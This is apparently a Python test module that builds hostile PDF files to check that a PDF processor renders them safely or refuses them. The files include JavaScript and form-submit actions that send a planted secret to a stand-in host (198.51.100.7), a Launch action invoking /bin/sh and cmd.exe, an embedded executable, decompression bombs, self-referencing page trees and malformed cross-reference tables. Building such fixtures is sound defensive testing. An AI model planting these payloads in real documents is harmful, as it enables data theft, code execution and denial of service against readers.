"""Hostile PDFs, each written by code from its description."""

from __future__ import annotations

import io
import zlib
from typing import TYPE_CHECKING

from pypdf import PdfWriter

from tests.attacks.clean import SECRET
from tests.attacks.photographs import packed, zeros

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence

INK = b"0.8 0.1 0.1 rg 20 20 100 100 re f"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/Resources<<>>%s>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def stream(body: bytes, *, more: bytes = b"") -> bytes:
    """Return a stream object."""
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (more, len(body), body)


def pdf(objects: Sequence[bytes], *, trailer: bytes = b"", xref: bool = True) -> bytes:
    """Return a PDF of objects from number 1; the first is the catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    if xref:
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
        out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)
    return bytes(out)


def paper(
    *more: bytes,
    catalogue: bytes = b"",
    page: bytes = b"",
    ink: bytes = INK,
    pages: bytes = PAGES,
    **options: bytes,
) -> bytes:
    """Return a PDF of one page; further objects begin at number 5."""
    first = b"<</Type/Catalog/Pages 2 0 R%s>>" % catalogue
    return pdf([first, pages, PAGE % page, stream(ink), *more], **options)  # type: ignore[arg-type]  # the trailer


def sized(box: bytes) -> bytes:
    """Return a PDF whose page says what it likes of its size."""
    return paper().replace(b"[0 0 200 200]", box)


def locked(owner_only: bool) -> bytes:
    """Return a PDF that is encrypted with a password, or only against changes."""
    writer = PdfWriter(clone_from=io.BytesIO(paper()))
    writer.encrypt("" if owner_only else "secret", "owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def long(pages: int) -> bytes:
    """Return a PDF of so many pages."""
    kids = b" ".join(b"%d 0 R" % number for number in range(3, 3 + pages))
    tree = b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, pages)
    each = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>"
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", tree, *[each] * pages])


def with_picture(width: int, height: int, body: bytes, filters: bytes) -> bytes:
    """Return a PDF with a picture that says what it likes of its size."""
    words = (
        b"/Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceGray/BitsPerComponent 8/Filter%s"
    )
    picture = stream(body, more=words % (width, height, filters))
    return paper(
        picture, page=b"/Resources<</XObject<</P 5 0 R>>>>", ink=b"180 0 0 180 10 10 cm /P Do"
    ).replace(b"/Resources<<>>", b"")


def drawn() -> Iterator[tuple[str, bytes]]:
    """Yield papers that would do or tell something. Each is drawn, does nothing and tells nothing."""
    script = b"app.alert('" + SECRET + b"'); this.submitForm('http://198.51.100.7/')"
    yield "script.pdf", paper(catalogue=b"/OpenAction<</S/JavaScript/JS(%s)>>" % script)
    names = b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(%s)>>]>>>>" % script
    yield "script-by-name.pdf", paper(catalogue=names)
    yield "script-of-page.pdf", paper(page=b"/AA<</O<</S/JavaScript/JS(%s)>>>>" % script)
    yield "launch.pdf", paper(catalogue=b"/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>")
    yield "link.pdf", paper(catalogue=b"/OpenAction<</S/URI/URI(http://198.51.100.7/?%s)>>" % SECRET)
    yield "elsewhere.pdf", paper(catalogue=b"/OpenAction<</S/GoToR/F(//198.51.100.7/share/x.pdf)/D[0/Fit]>>")
    yield (
        "form.pdf",
        paper(catalogue=b"/OpenAction<</S/SubmitForm/F(http://198.51.100.7/)>>/AcroForm<</Fields[]>>"),
    )
    xfa = stream(b"<xdp><script>%s</script></xdp>" % SECRET)
    yield "xfa.pdf", paper(xfa, catalogue=b"/AcroForm<</Fields[]/XFA 5 0 R>>")
    inside = b"/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>]>>>>"
    yield "attached.pdf", paper(stream(b"MZ" + SECRET, more=b"/Type/EmbeddedFile"), catalogue=inside)
    yield "told.pdf", paper(trailer=b"/Info<</Author(%s)/Title(%s)>>" % (SECRET, SECRET))
    xmp = stream(b"<x:xmpmeta>%s</x:xmpmeta>" % SECRET, more=b"/Type/Metadata/Subtype/XML")
    yield "xmp.pdf", paper(xmp, catalogue=b"/Metadata 5 0 R")
    yield "tail.pdf", paper() + packed() + SECRET
    yield "older.pdf", paper(ink=b"(%s) Tj" % SECRET) + paper()
    yield "invisible.pdf", paper(ink=INK + b" BT 3 Tr /F 9 Tf (%s) Tj ET" % SECRET)
    yield "note.pdf", paper(page=b"/Annots[<</Subtype/Text/Rect[0 0 9 9]/Contents(%s)>>]" % SECRET)
    yield (
        "film.pdf",
        paper(page=b"/Annots[<</Subtype/Movie/Rect[0 0 9 9]/Movie<</F(http://198.51.100.7/)>>>>]"),
    )
    yield "no-xref.pdf", paper(xref=b"")
    yield "broken-xref.pdf", paper().replace(b"00000 n", b"99999 x")
    yield "wrong-start.pdf", paper()[:-20] + b"startxref\n999999\n%%EOF"
    yield "against-changes.pdf", locked(owner_only=True)
    yield "huge.pdf", sized(b"[0 0 14400 14400]")
    yield "huger.pdf", sized(b"[0 0 1e9 1e9]")
    yield "hair.pdf", sized(b"[0 0 14400 0.001]")
    yield "turned-over.pdf", sized(b"[200 200 0 0]")
    yield "no-size.pdf", sized(b"[0 0 0 0]")
    yield "not-a-size.pdf", sized(b"[/a (b) null true]")
    yield "thirty.pdf", long(30)
    yield "unit.pdf", paper(page=b"/UserUnit 1000000")


def hurting() -> Iterator[tuple[str, bytes]]:
    """Yield papers made to hurt. Each is drawn within the limits or refused by name."""
    yield "self-kid.pdf", paper(pages=b"<</Type/Pages/Kids[2 0 R]/Count 1>>")
    yield "self-parent.pdf", paper(pages=b"<</Type/Pages/Parent 2 0 R/Kids[3 0 R 2 0 R]/Count 2>>")
    yield "false-count.pdf", paper(pages=b"<</Type/Pages/Kids[3 0 R]/Count 29>>")
    yield "minus-count.pdf", paper(pages=b"<</Type/Pages/Kids[3 0 R]/Count -1>>")
    yield "deep.pdf", paper(page=b"/X" + b"[" * 100_000 + b"]" * 100_000)
    yield "bomb.pdf", flated(b"q Q " * 8_000_000)
    yield "paths.pdf", flated(b"0 0 m 200 200 l 0 200 l 200 0 l b* " * 1_500_000)
    yield "curves.pdf", flated(b"1 w 0 0 m 9 200 200 9 200 200 c S " * 1_000_000)
    own = b"/Type/XObject/Subtype/Form/BBox[0 0 200 200]/Resources<</XObject<</F 5 0 R>>>>"
    form = stream(b"/F Do /F Do", more=own)
    yield (
        "itself.pdf",
        paper(form, page=b"/Resources<</XObject<</F 5 0 R>>>>", ink=b"/F Do").replace(
            b"/Resources<<>>", b"", 1
        ),
    )
    yield "doubling.pdf", doubling(28)
    tile = b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep .0001/YStep .0001/Resources<<>>"
    ink = b"/Pattern cs /P scn 0 0 200 200 re f"
    yield (
        "tiles.pdf",
        paper(
            stream(b"0 0 1 1 re f", more=tile), page=b"/Resources<</Pattern<</P 5 0 R>>>>", ink=ink
        ).replace(b"/Resources<<>>", b"", 1),
    )
    yield "picture-bomb.pdf", with_picture(60_000, 60_000, zeros(300), b"/FlateDecode")
    yield (
        "picture-twice.pdf",
        with_picture(20_000, 20_000, zlib.compress(zeros(380)), b"[/FlateDecode/FlateDecode]"),
    )
    yield "picture-declared.pdf", with_picture(2**31 - 1, 2**31 - 1, b"x", b"/FlateDecode")
    yield "jpx.pdf", with_picture(40_000, 40_000, b"\0\0\0\x0cjP  \r\n\x87\n" + b"\xff" * 99, b"/JPXDecode")
    yield (
        "jbig2.pdf",
        with_picture(65_000, 65_000, b"\0\0\0\0\x30\0\1\0\0\0\x13" + b"\xff" * 19, b"/JBIG2Decode"),
    )
    yield "fax.pdf", with_picture(60_000, 60_000, b"\0\x10\x01" * 99, b"/CCITTFaxDecode")
    yield "lzw.pdf", with_picture(60_000, 60_000, b"\x80\x0b\x60" * 99, b"/LZWDecode")
    whole = paper()
    for tenth in range(1, 10):
        yield f"cut-{tenth}.pdf", whole[: len(whole) * tenth // 10]


def flated(ink: bytes) -> bytes:
    """Return a PDF whose ink is packed small."""
    packer = zlib.compress(ink, 9)
    first, page = b"<</Type/Catalog/Pages 2 0 R>>", PAGE % b""
    return pdf([first, PAGES, page, stream(packer, more=b"/Filter/FlateDecode")])


def doubling(depth: int) -> bytes:
    """Return a PDF whose forms each draw the next one twice."""
    forms = []
    for number in range(5, 5 + depth):
        more = b"/Type/XObject/Subtype/Form/BBox[0 0 200 200]/Resources<</XObject<</F %d 0 R>>>>" % (
            number + 1
        )
        forms.append(stream(b"/F Do /F Do", more=more))
    last = stream(INK, more=b"/Type/XObject/Subtype/Form/BBox[0 0 200 200]")
    made = paper(*forms, last, page=b"/Resources<</XObject<</F 5 0 R>>>>", ink=b"/F Do")
    return made.replace(b"/Resources<<>>", b"", 1)


def refused() -> Iterator[tuple[str, str, bytes]]:
    """Yield what is refused: name, refusal, file."""
    yield "locked.pdf", "FileLocked", locked(owner_only=False)
    yield "31-pages.pdf", "TooManyPages", long(31)
    yield "10000-pages.pdf", "TooManyPages", long(10_000)
    yield "nothing.pdf", "FileBroken", b"%PDF-1.7\n%%EOF"
    yield "words.pdf", "FileBroken", b"%PDF-1.7\n" + SECRET * 1_000
    yield (
        "no-pages.pdf",
        "FileBroken",
        pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>"]),
    )
    yield "no-catalogue.pdf", "FileBroken", pdf([b"null"])
    yield "html.pdf", "OtherKind", b"<html>%PDF-1.7" + SECRET
    yield "late.pdf", "UnknownKind", b"MZ\0\0" + paper()
    yield "large.pdf", "FileTooLarge", paper() + bytes(21 << 20)
